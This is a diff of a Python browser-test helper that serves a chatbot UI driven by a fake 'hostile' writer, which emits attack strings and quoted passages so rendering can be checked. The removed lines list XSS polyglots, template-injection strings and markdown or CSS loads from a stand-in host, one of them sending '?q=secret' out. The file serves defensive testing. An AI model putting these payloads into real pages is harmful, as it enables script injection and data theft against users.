@@ -1,65 +1,67 @@
-"""`python -m tests.browser.hostile_server HOME`: the page over a writer that says what an attacker would."""
+"""`python -m tests.browser.hostile_server HOME [quick]`: the page over a writer that says what an attacker would.
+
+`Say part N` has it say the Nth hundred of the strings of `tests/attacks.py`, as a model could; `Quote part N` has it
+quote the Nth part of the documents, whatever these hold. With `quick` the index is one of `QuickEmbedder`.
+"""
 
 from __future__ import annotations
 
+import re
 import sys
 import time
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from typing import Any
 
 from bot import assemble
 from bot.settings import read_settings
-from bot.types import Draft, Queries
+from bot.types import Draft, Queries, Quote
 from bot.writers.quoting import QuotingWriter
+from knowledge.retriever import Retrieval
+from knowledge.sentences import plain
+from knowledge.types import Passage
+from tests import attacks
+from tests.quick_embedder import QuickEmbedder
 from ui import server
 
 SLOWLY = "slowly"
-# Each tries to run `hacked()` or to load something from a foreign host.
-POLYGLOTS = [
-    "<script>hacked()</script>",
-    "<img src=x onerror=hacked()>",
-    "<svg/onload=hacked()>",
-    "<svg><script>hacked()</script></svg>",
-    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
-    "<details open ontoggle=hacked()>",
-    "<body onload=hacked()>",
-    "<a href='javascript:hacked()'>click</a>",
-    "[click](javascript:hacked())",
-    "[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
-    "![x](http://203.0.113.1/a.png)",
-    "![x](//203.0.113.1/a.png?q=secret)",
-    "![x][1]\n\n[1]: http://203.0.113.1/b.png",
-    "<http://203.0.113.1/>",
-    "http://203.0.113.1/c",
-    "</p><button type='button' class='cite' value='1' onclick='hacked()'>[1]</button>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
-    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=hacked() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
-    "\\x3csVg/<sVg/oNloAd=hacked()//>\\x3e",
-    '"><img src=x onerror=hacked()>',
-    "'-hacked()-'",
-    "{{constructor.constructor('hacked()')()}}",
-    "${hacked()}",
-    "<style>@import url(http://203.0.113.1/d.css);</style>",
-    "<link rel=stylesheet href=http://203.0.113.1/e.css>",
-    "<base href=http://203.0.113.1/>",
-    "<form action=http://203.0.113.1/><input name=a><button>x</button></form>",
-    "&lt;script&gt;hacked()&lt;/script&gt;",
-    "&#60;img src=x onerror=hacked()&#62;",
-    "event: answer\ndata: {}\n\n",
-]
+SIZE = 100
+OURS = [*attacks.POLYGLOTS, *attacks.exfiltrations()]
+STRINGS = [*OURS, *attacks.naughty()]
+
+
+def parts(strings: Sequence[Any], size: int = SIZE) -> list[Sequence[Any]]:
+    """So many at a time."""
+    return [strings[at : at + size] for at in range(0, len(strings), size)]
 
 
 class HostileWriter(QuotingWriter):
-    """Says every one of them, and leaves time to interrupt it when it is asked to."""
+    """Says what it is told to, and leaves time to interrupt it when it is asked to."""
 
-    def write(self, queries: Queries, *_: Any) -> Iterator[Draft]:
-        """As plain statements, which are shown as they are."""
-        for text in POLYGLOTS:
-            time.sleep(0.5 if SLOWLY in queries.message else 0)
+    def write(self, queries: Queries, retrieval: Retrieval, *_: Any) -> Iterator[Draft]:
+        """Plain statements, which are shown as they are, or quotes with their citations."""
+        asked = re.match(r"(Say|Quote) part (\d+)", queries.message)
+        if asked and asked[1] == "Quote":
+            yield from _quotes(retrieval, int(asked[2]))
+            return
+        slowly = SLOWLY in queries.message
+        if not (asked or slowly):
+            yield Draft("Heard.", "plain")
+            return
+        for text in parts(STRINGS)[int(asked[2]) if asked else 0]:
+            time.sleep(0.5 if slowly else 0)
             yield Draft(text, "plain")
+
+
+def _quotes(retrieval: Retrieval, part: int) -> Iterator[Draft]:
+    """The first sentence of each chunk."""
+    generation = retrieval.generation
+    for chunk in parts(generation.chunks, 20)[part]:
+        for sentence, _ in generation.store.sentences_of([chunk.id])[chunk.id][:1]:
+            yield Draft(plain(sentence.text), "support", Quote(Passage(chunk, 1.0, 1.0, 1.0), sentence))
 
 
 if __name__ == "__main__":
     assemble.QuotingWriter = HostileWriter  # type: ignore[misc]
+    if sys.argv[2:] == ["quick"]:
+        assemble.SentenceEmbedder = QuickEmbedder  # type: ignore[misc]
     server.run(read_settings(home=sys.argv[1], port=0), browser=False)
